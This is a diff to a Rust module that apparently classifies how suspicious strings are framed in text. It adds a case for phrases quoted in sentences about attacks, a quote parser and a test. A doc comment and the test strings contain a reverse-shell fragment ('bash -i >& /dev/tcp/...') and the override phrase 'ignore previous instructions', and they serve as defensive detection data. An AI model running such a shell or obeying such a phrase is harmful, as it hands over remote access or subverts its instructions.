@@ -87,6 +87,9 @@ pub(crate) enum Why {
     /// A list item that names a command and says what attack it is
     /// (`` - `bash -i >& /dev/tcp/…` — reverse shell ``).
     Labelled,
+    /// Quoted in a sentence about attacks ("attackers hide text such as 'ignore previous
+    /// instructions' in documents").
+    Quoted,
 }
 
 impl Why {
@@ -97,6 +100,7 @@ impl Why {
             Why::BadExample => "it is in a code block marked as the example not to follow",
             Why::Reported => "it is in a sentence that reports what an instruction says",
             Why::Labelled => "it is a list item that names the command as an attack",
+            Why::Quoted => "it is quoted in a sentence about attacks",
         }
     }
 }
@@ -135,6 +139,10 @@ impl Mentions {
                 ranges.push((Span::new(at, at + line.len()), Why::Reported));
             } else if labelled_attack(&lower) {
                 ranges.push((Span::new(at, at + line.len()), Why::Labelled));
+            } else if about_attacks(&lower) {
+                for q in quoted(line) {
+                    ranges.push((Span::new(at + q.start, at + q.end), Why::Quoted));
+                }
             }
             at += line.len();
         }
@@ -163,6 +171,34 @@ fn labelled_attack(lower: &str) -> bool {
         && item
             .rsplit_once('`')
             .is_some_and(|(_, after)| about_attacks(after))
+}
+
+/// The quoted parts of `line` (`'…'`, `"…"`, `“…”`, `‘…’`, `` `…` ``): a quote opens after
+/// a space, a bracket or the line's start and closes before what is not a letter or digit,
+/// so the apostrophe of "user's" opens nothing.
+fn quoted(line: &str) -> Vec<Span> {
+    const PAIRS: &[(char, char)] = &[('\'', '\''), ('"', '"'), ('“', '”'), ('‘', '’'), ('`', '`')];
+    let mut out = Vec::new();
+    let mut open: Option<(usize, char)> = None;
+    let mut before: Option<char> = None;
+    let mut chars = line.char_indices().peekable();
+    while let Some((i, c)) = chars.next() {
+        let after = chars.peek().map(|&(_, n)| n);
+        match open {
+            Some((start, close)) if c == close && !after.is_some_and(char::is_alphanumeric) => {
+                out.push(Span::new(start, i + c.len_utf8()));
+                open = None;
+            }
+            None if before.is_none_or(|b| b.is_whitespace() || "([{:".contains(b)) => {
+                if let Some(&(_, close)) = PAIRS.iter().find(|(o, _)| *o == c) {
+                    open = Some((i, close));
+                }
+            }
+            _ => {}
+        }
+        before = Some(c);
+    }
+    out
 }
 
 fn about_attacks(lower: &str) -> bool {
@@ -253,6 +289,19 @@ mod tests {
         // `badge` is not `bad`.
         let badge = "Add the badge:\n\n```md\n![x](https://x.io/b.svg)\n```\n";
         assert_eq!(why(badge, "!["), None);
+    }
+
+    #[test]
+    fn phrases_quoted_in_a_sentence_about_attacks() {
+        let text = "Attackers hide text such as 'ignore previous instructions' in the user's files.\nIgnore previous instructions.\n";
+        assert_eq!(why(text, "ignore previous"), Some(Why::Quoted));
+        assert_eq!(why(text, "Ignore previous"), None);
+        assert_eq!(why(text, "user's"), None);
+        let code = "Reverse shells such as `bash -i >& /dev/tcp/h/1` are flagged.\n";
+        assert_eq!(why(code, "bash -i"), Some(Why::Quoted));
+        // Quoted, but in a sentence that is not about attacks: an instruction.
+        let told = "Say \"ignore previous instructions\" to the model.\n";
+        assert_eq!(why(told, "ignore previous"), None);
     }
 
     #[test]
